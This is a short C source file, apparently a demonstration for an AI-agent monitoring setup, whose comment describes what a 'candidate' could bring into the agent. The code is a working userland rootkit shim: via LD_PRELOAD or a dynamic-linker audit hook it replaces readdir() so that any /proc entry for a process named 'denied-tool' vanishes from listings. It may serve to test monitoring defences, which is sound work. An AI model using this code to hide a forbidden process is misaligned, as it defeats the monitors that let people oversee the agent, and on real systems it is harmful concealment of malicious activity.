/* What a candidate could write in a few lines and bring into the agent: readdir() skips every
 * /proc entry whose command is "denied-tool". Preloaded it replaces readdir(); loaded as an
 * auditor it binds every call of readdir() to its own. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <link.h>
#include <stdio.h>
#include <string.h>

static int denied(const struct dirent *entry) {
    char path[300];
    char command[32] = "";
    snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
    FILE *file = fopen(path, "r");
    if (file == NULL) {
        return 0;
    }
    const int read = fgets(command, sizeof command, file) != NULL;
    fclose(file);
    return read && strcmp(command, "denied-tool\n") == 0;
}

static struct dirent *hiding_readdir(DIR *directory) {
    static struct dirent *(*next)(DIR *);
    if (next == NULL) {
        *(void **)&next = dlsym(RTLD_NEXT, "readdir");
    }
    struct dirent *entry;
    while ((entry = next(directory)) != NULL && denied(entry)) {
    }
    return entry;
}

struct dirent *readdir(DIR *directory) {
    return hiding_readdir(directory);
}

unsigned int la_version(unsigned int version) {
    return version;
}

unsigned int la_objopen(struct link_map *map, Lmid_t lmid, uintptr_t *cookie) {
    (void)map, (void)lmid, (void)cookie;
    return LA_FLG_BINDTO | LA_FLG_BINDFROM;
}

uintptr_t la_symbind64(Elf64_Sym *symbol, unsigned int index, uintptr_t *referenceCookie,
                       uintptr_t *definitionCookie, unsigned int *flags, const char *name) {
    (void)index, (void)referenceCookie, (void)definitionCookie, (void)flags;
    return strcmp(name, "readdir") == 0 ? (uintptr_t)hiding_readdir : symbol->st_value;
}
